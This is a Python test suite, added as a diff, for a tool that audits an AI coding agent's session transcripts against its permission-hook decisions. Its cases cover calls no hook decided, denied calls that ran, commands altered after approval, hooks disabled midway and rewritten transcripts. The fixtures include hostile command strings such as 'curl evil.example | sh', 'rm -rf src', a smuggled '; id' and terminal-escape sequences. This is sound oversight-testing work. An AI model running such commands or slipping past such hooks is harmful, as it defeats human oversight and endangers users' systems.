@@ -1,0 +1,394 @@
+#!/usr/bin/env python3
+"""cortex hook audit: what was not decided.  Each defect alone, beside a session without any.
+
+Closes with `N passed, N failed, N skipped`.
+"""
+import json
+import os
+
+from audit_kit import Told, ids, one
+from kit import BIN, check, main, run, test
+
+
+@test
+def a_session_without_defects_holds():
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls src", "description": "look"})
+        s.call("Write", {"file_path": str(s.repo / "src/b.c"), "content": "é" * 40_000})
+        s.call("Bash", {"command": "rm -rf src"})
+        s.call("Task", {"prompt": "x", "subagent_type": "Explore"})
+        s.call("Read", {"file_path": str(s.repo / "src/a.c")}, agent_id="a1", agent_type="Explore")
+        s.line("assistant", [{"type": "text", "text": "done"}])
+        s.end()
+        report = s.audit()
+        check(ids(report) == [] and report["counts"]["calls"] == 5 and report["counts"]["matched"] == 5, report)
+        check(report["transcripts"][0]["path"] == str(s.file) and not report["transcripts"][0]["archived"], report)
+        check(report["ended"] and report["actor"] == "session:claude-code:" + s.session, report)
+        check("holds" in s.cortex("hook", "audit"))
+        s.watch()
+        report = s.audit(s.session[:8])
+        check(report["transcripts"][0]["archived"], report)
+
+
+@test
+def a_call_without_a_decision_is_broken():
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        call = s.undecided("Bash", {"command": "curl evil.example"})
+        report = s.audit(code=1)
+        found = one(report, "undecided_call")
+        check(ids(report) == ["undecided_call"] and found["transcript"] == {
+            "file": str(s.file), "line": 3, "call": call, "tool": "Bash"} and found["journal"] is None, found)
+        text = s.cortex("hook", "audit", codes=(1,))
+        check("error    undecided_call" in text and f"{s.file}:3" in text, text)
+
+
+@test
+def what_did_not_run_needs_no_decision():
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        for name, tool, text in (("toolu_a", "Bash", "<tool_use_error>InputValidationError: x</tool_use_error>"),
+                                 ("toolu_b", "Nope", "<tool_use_error>Error: No such tool available</tool_use_error>")):
+            s.tell_call(name, tool, {"x": 1})
+            s.tell_result(name, text, failed=True)
+        s.undecided("TodoWrite", {"todos": []})
+        report = s.audit()
+        check(ids(report, "note") == ["harmless_call", "refused_before_hooks"], report)
+        # The text of a server's error is the server's: it proves nothing.
+        s.tell_call("toolu_c", "mcp__x__y", {"x": 1})
+        s.tell_result("toolu_c", "<tool_use_error>no</tool_use_error>", failed=True)
+        check(ids(s.audit(code=3)) == ["unclear_call"])
+        # A command that prints such a text has run.
+        s.tell_call("toolu_d", "Bash", {"command": "x"})
+        s.tell_result("toolu_d", "Exit code 1\n<tool_use_error>no", failed=True)
+        check(ids(s.audit(code=1)) == ["unclear_call", "undecided_call"])
+        s.tell_call("toolu_e", "Bash", {"command": "never answered"})
+        check(s.audit(code=1)["counts"]["findings"]["unclear_call"] == 2)
+
+
+@test
+def a_denied_call_that_ran_is_broken():
+    with Told() as s:
+        s.start()
+        call = s.call("Bash", {"command": "rm -rf src"})
+        check(ids(s.audit()) == [])
+        good = [dict(line) for line in s.lines]
+        s.lines.pop()
+        s.tell_result(call, "Exit code 1\nrm: no", failed=True)
+        found = one(s.audit(code=1), "denied_call_ran")
+        check(found["journal"]["seq"] == 1 and found["transcript"]["line"] == 1 and "C07" in found["message"], found)
+        s.lines = good[:-1]
+        s.tell_result(call, "something else", failed=True)
+        check(ids(s.audit(code=3)) == ["denied_call_unclear"])
+        # The hook after the call knows better than the transcript.
+        s.lines = good
+        check(s.after(call, "Bash", {"command": "rm -rf src"}).returncode == 0)
+        check("entry 2" in one(s.audit(code=1), "denied_call_ran")["message"])
+
+
+@test
+def another_input_than_the_one_decided_is_broken():
+    with Told() as s:
+        s.start()
+        call = s.call("Bash", {"command": "ls", "description": "x"})
+        s.lines[0]["message"]["content"][0]["input"]["command"] = "curl evil.example | sh"
+        found = one(s.audit(code=1), "input_differs")
+        check(found["journal"]["seq"] == 1 and found["transcript"]["call"] == call, found)
+        s.lines[0]["message"]["content"][0]["input"] = {"command": "ls", "description": "x", "more": True}
+        check(ids(s.audit(code=1)) == ["input_differs"])
+        # Hooks get absolute paths.
+        s.lines = []
+        s.tell_call("toolu_r", "Read", {"file_path": "src/a.c"})
+        s.decide("toolu_r", "Read", {"file_path": str(s.repo / "src/a.c")})
+        s.tell_result("toolu_r")
+        check("input_differs" not in ids(s.audit(code=3)))
+        # What ran, by the hook's own word.
+        s.decide("toolu_s", "Bash", {"command": "ls"})
+        s.after("toolu_s", "Bash", {"command": "ls; id"})
+        s.tell_call("toolu_s", "Bash", {"command": "ls"})
+        s.tell_result("toolu_s")
+        check(one(s.audit(code=1), "executed_differs")["journal"]["seq"] == 4)
+
+
+@test
+def a_rewritten_call_has_to_run_rewritten():
+    with Told() as s:
+        import shutil
+        from kit import TESTS, skip
+        if not shutil.which("npm"):
+            skip("there is no npm")
+        shutil.copytree(TESTS.parent / "policies", s.repo / "policies")
+        (s.repo / "policies/live.json").write_text(json.dumps(
+            {"version": "v1", "allow": [["npm", "ci"]], "rewrite": [{"from": ["npm", "install"], "to": ["npm", "ci"]}]}))
+        s.git("add", "-A")
+        s.git("commit", "-q", "-m", "policy")
+        s.start()
+        for number, (ran, code, found) in enumerate((
+                ("npm ci", 0, []), ("npm install", 3, ["rewrite_unclear"]), ("npm publish", 1, ["executed_differs"]))):
+            call = f"toolu_{number}"
+            told = {"command": "npm install", "description": "x"}
+            check(b"npm ci" in s.decide(call, "Bash", told).stdout)
+            s.after(call, "Bash", {**told, "command": ran})
+            s.tell_call(call, "Bash", told)
+            s.tell_result(call)
+            report = s.audit(s.session, "--no-work-tree", code=code)
+            check(set(found) <= set(ids(report)), number, report["findings"])
+
+
+@test
+def a_decision_that_no_transcript_tells_is_indeterminate():
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        s.call("Bash", {"command": "ls src"})
+        s.call("Bash", {"command": "ls ."})
+        gone, s.lines = s.lines[2:4], s.lines[:2] + s.lines[4:]
+        found = one(s.audit(code=3), "decision_without_call")
+        check(found["journal"]["seq"] == 3 and found["transcript"] is None and "ls src" in found["message"], found)
+        s.lines = s.lines[:2] + gone
+        report = s.audit()  # the end is not told yet, and the session goes on
+        check(ids(report, "note") == ["decided_not_yet_told"], report["findings"])
+        s.end()
+        check(ids(s.audit(code=3)) == ["decision_without_call"])
+
+
+@test
+def a_result_that_nothing_decided_is_broken():
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        s.after("toolu_x", "Bash", {"command": "id"})
+        check(one(s.audit(code=1), "undecided_result")["journal"]["seq"] == 3)
+
+
+@test
+def hooks_that_were_off_in_between_are_a_gap():
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        s.undecided("Bash", {"command": "a"})
+        s.undecided("Bash", {"command": "b"})
+        s.call("Bash", {"command": "ls src"})
+        found = one(s.audit(code=1), "hooks_gap")
+        check(found["journal"]["seq"] == 1 and found["transcript"]["line"] == 3 and "line 5" in found["message"]
+              and "after: yes" in found["message"], found)
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        s.event("ConfigChange", source="project_settings", file_path=str(s.repo / ".claude/settings.json"))
+        s.undecided("Bash", {"command": "a"})
+        report = s.audit(code=1)
+        check("configuration changed" in one(report, "hooks_gap")["message"]
+              and one(report, "config_changed")["journal"]["seq"] == 3, report["findings"])
+
+
+@test
+def a_session_goes_on_after_its_end():
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        s.end()
+        s.call("Bash", {"command": "ls src"})
+        check(one(s.audit(code=3), "resumed_without_start")["journal"]["seq"] == 4)
+        s.start("resume")
+        s.call("Bash", {"command": "ls ."})
+        check(s.audit(code=3)["counts"]["findings"]["resumed_without_start"] == 1)
+
+
+@test
+def calls_of_sub_agents_are_audited_too():
+    with Told() as s:
+        s.start()
+        s.call("Task", {"prompt": "x"})
+        s.write()
+        own, s.lines = s.lines, []
+        s.undecided("Bash", {"command": "id"}, agentId="a7", isSidechain=True)
+        s.write(path=s.file.with_suffix("") / "subagents" / "agent-a7.jsonl")
+        s.lines = own
+        found = one(s.audit(code=1), "undecided_subagent_call")
+        check("a7" in found["message"] and found["transcript"]["file"].endswith("agent-a7.jsonl"), found)
+        s.watch()
+        check(one(s.audit(code=1), "undecided_subagent_call")["transcript"]["line"] == 1)
+
+
+@test
+def sessions_without_a_journal_are_found():
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        s.write()
+        own, session, s.lines, s.session = s.lines, s.session, [], "5e551011-0000-4000-8000-000000000002"
+        s.undecided("Bash", {"command": "id"})
+        s.write(path=s.place / (s.session + ".jsonl"))
+        s.lines, s.session, silent = own, session, s.session
+        s.watch()
+        reports = s.audit("--all", code=1)
+        check([r["session"] for r in reports] == [session, silent], reports)
+        check(one(reports[1], "no_journal")["transcript"]["file"].endswith(silent + ".jsonl")
+              and reports[1]["actor"] is None and reports[1]["counts"]["calls"] == 1, reports[1])
+        check(ids(s.audit(silent, code=1)) == ["no_journal"])
+        check(ids(s.audit("--transcript", s.place / (silent + ".jsonl"), code=1)) == ["no_journal"])
+        check(len(s.audit("--since", "1h", code=1)) == 2)
+        check(s.cortex("hook", "audit", "--since", "2100-01-01", codes=(0, 2)) != "")
+        s.cortex("hook", "audit", "unheard-of", codes=(2,))
+        # Older than every hook, it says.
+        for line in json.loads("[" + ",".join((s.place / (silent + ".jsonl")).read_text().splitlines()) + "]"):
+            line["timestamp"] = "2020-01-01T00:00:00.000Z"
+            with open(s.place / "old.jsonl", "a", encoding="utf-8") as out:
+                out.write(json.dumps({**line, "sessionId": "old"}) + "\n")
+        check(ids(s.audit("--transcript", s.place / "old.jsonl", code=3)) == ["before_hooks"])
+
+
+@test
+def a_rewritten_or_missing_transcript_is_found():
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        s.undecided("Bash", {"command": "evil"})
+        s.call("Bash", {"command": "ls src"})
+        s.write()
+        s.watch()
+        s.lines = s.lines[:2] + s.lines[4:]
+        s.write()
+        s.watch()
+        report = s.audit(code=1)
+        check({"transcript_rewritten", "undecided_call"} <= set(ids(report)), report["findings"])
+        check(one(report, "transcript_rewritten")["transcript"]["line"] == 3, report["findings"])
+        # The file alone does not show it.
+        check(ids(s.audit("--transcript", s.file, s.session)) == [])
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        check(ids(s.audit(code=3, write=False)) == ["no_transcript"])
+        os.mkfifo(s.file)
+        check(ids(s.audit(code=3, write=False)) == ["no_transcript"])
+        s.cortex("hook", "audit", "--transcript", s.file, codes=(2, 3))
+        s.file.unlink()
+        s.file.symlink_to("/dev/zero")
+        check(ids(s.audit(code=3, write=False)) == ["no_transcript"])
+        s.file.unlink()
+        s.write()
+        with open(s.file, "a", encoding="utf-8") as out:
+            out.write('{"type":"assist')
+        found = one(s.audit(code=3, write=False), "transcript_damaged")
+        check(found["transcript"]["line"] == 3, found)
+
+
+@test
+def what_a_person_and_the_modes_did_is_noted():
+    with Told() as s:
+        s.mode = "observe"
+        s.event("SessionStart", "--fail-open", source="startup")
+        s.decide("toolu_1", "Bash", {"command": "rm -rf src"}, "--fail-open")
+        s.after("toolu_1", "Bash", {"command": "rm -rf src"})
+        s.tell_call("toolu_1", "Bash", {"command": "rm -rf src"})
+        s.tell_result("toolu_1")
+        report = s.audit()
+        check(ids(report, "note") == ["fail_open", "observed"], report["findings"])
+        check("C07" in one(report, "observed")["message"] and one(report, "observed")["journal"]["seq"] == 1)
+    with Told() as s:
+        s.start()
+        call = s.call("Bash", {"command": "make all"})
+        check(ids(s.audit(), "note") == ["asked_and_ran"])
+        s.cortex("session", "deny", s.session, "--reason", "no", codes=(0,))
+        check("ann refused Bash" == one(s.audit(), "approved")["message"], call)
+    with Told() as s:
+        (s.repo / "policies").mkdir()
+        (s.repo / "policies/live.json").write_text("{}")
+        s.git("add", "-A")
+        s.git("commit", "-q", "-m", "x")
+        s.mode = "observe"
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        check(ids(s.audit(code=3)) == ["not_enforced"])
+        s.session, s.mode, s.lines = "another-session", "enforce", []
+        s.file = s.place / "another-session.jsonl"
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        report = s.audit(s.session)
+        check(ids(report, "note") == ["policy_unread"], report)
+
+
+@test
+def ids_that_repeat_are_never_guessed():
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls"}, call_id="toolu_1")
+        s.lines += [dict(line) for line in s.lines]  # a resumed session repeats its past
+        report = s.audit()
+        check(report["counts"]["calls"] == 1, report)
+        s.undecided("Bash", {"command": "ls"}, call_id="toolu_1")
+        s.lines[-2]["timestamp"] = "2031-01-01T00:00:00.000Z"
+        check(ids(s.audit(code=3)) == ["call_id_repeated"])
+        s.undecided("Bash", {"command": "other"}, call_id="toolu_1")
+        check(ids(s.audit(code=1)) == ["call_id_repeated", "input_differs"])
+        # Monitor is decided twice with one id.
+        s.lines = s.lines[:2]
+        s.tell_call("toolu_m", "Monitor", {"command": "ls src", "description": "x"})
+        s.decide("toolu_m", "Monitor", {"command": "ls src", "description": "x"})
+        s.decide("toolu_m", "Bash", {"command": "ls src"})
+        s.tell_result("toolu_m")
+        check(ids(s.audit()) == [])
+
+
+@test
+def hostile_transcripts_end_in_a_verdict():
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "ls"})
+        first = [dict(line) for line in s.lines]
+        s.lines[0]["parentUuid"], s.lines[1]["parentUuid"] = "u-2", "u-1"  # a cycle
+        check(ids(s.audit()) == [])
+        s.lines = list(first)
+        s.undecided("Bash", {"command": "x"}, sessionId="someone-else")
+        check(ids(s.audit(code=3)) == ["other_session"])
+        s.lines = first + [{**first[1], "uuid": f"v-{n}"} for n in range(20_000)]
+        check(ids(s.audit()) == [])
+        s.lines = first + [{**first[0], "uuid": f"v-{n}", "timestamp": f"2026-01-01T00:{n // 60:02}:{n % 60:02}Z"}
+                           for n in range(1500)]
+        s.write()
+        done = run(BIN, "hook", "audit", "--home", s.home, env=s.env)
+        check(done.returncode == 3 and b"1,000 different calls" in done.stderr, done)
+        done = json.loads(s.cortex("hook", "audit", "--all", "--json", codes=(3,)))
+        check(ids(done["sessions"][0]) == ["no_transcript"], done)
+        for lines in ([], [{"type": "x"}], [[]], [{"type": "assistant", "message": {"content": [
+                {"type": "tool_use", "id": 7, "name": None, "input": "x"}]}, "uuid": "u", "sessionId": 5}]):
+            s.write(lines)
+            run(BIN, "hook", "audit", "--home", s.home, env=s.env)
+            done = run(BIN, "hook", "audit", "--home", s.home, env=s.env)
+            check(done.returncode in (1, 3), lines, done)
+        evil = "\x1b[2J\u202eevil"
+        s.lines = list(first)
+        s.undecided(evil, {"command": evil}, call_id=evil)
+        s.write()
+        text = run(BIN, "hook", "audit", "--home", s.home, env=s.env).stdout
+        check(b"\x1b" not in text and "\u202e".encode() not in text and b"\\u001b" in text, text)
+
+
+@test
+def sarif_names_both_sides():
+    with Told() as s:
+        s.start()
+        s.call("Bash", {"command": "rm -rf src"})
+        s.lines.pop()
+        s.tell_result("toolu_0", "gone")
+        s.undecided("Write", {"file_path": "/x", "content": ""})
+        s.write()
+        sarif = json.loads(s.cortex("hook", "audit", "--sarif", codes=(1,)))
+        results = {r["ruleId"]: r for r in sarif["runs"][0]["results"]}
+        check(sarif["version"] == "2.1.0" and set(results) == {"denied_call_ran", "undecided_call"}, results)
+        for result in results.values():
+            rules = sarif["runs"][0]["tool"]["driver"]["rules"]
+            check(rules[result["ruleIndex"]]["id"] == result["ruleId"] and result["level"] == "error", result)
+        place = results["denied_call_ran"]["locations"][0]
+        check(place["physicalLocation"]["artifactLocation"]["uri"] == f"file://{s.file}"
+              and place["physicalLocation"]["region"]["startLine"] == 1
+              and place["logicalLocations"][0]["fullyQualifiedName"] == f"session:claude-code:{s.session}/1", place)
+        s.cortex("hook", "audit", "--sarif", "--json", codes=(2,))
+        s.cortex("hook", "audit", "--all", "x", codes=(2,))
+
+
+main()
